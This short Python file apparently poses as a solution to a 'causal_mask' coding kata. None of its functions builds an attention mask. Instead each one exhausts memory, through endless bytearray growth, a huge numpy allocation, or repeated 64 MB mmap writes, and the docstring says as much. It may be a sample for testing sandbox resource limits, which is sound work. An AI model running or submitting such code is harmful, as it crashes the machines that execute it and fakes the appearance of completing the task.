"""Takes all memory there is: a list that grows, an array, and mappings of its own that it writes to."""
# kata: causal_mask
# share: 0

import mmap

import numpy as np


def causal_mask(n_queries, n_keys=None):
    held = []
    while True:
        held.append(bytearray(16 << 20))


def padded_causal_mask(n_queries, key_is_real):
    return np.ones((1 << 20, 1 << 16))


def additive_mask(mask, dtype=np.float32):
    maps = []
    while True:
        maps.append(mmap.mmap(-1, 64 << 20))
        maps[-1].write(bytes(64 << 20))
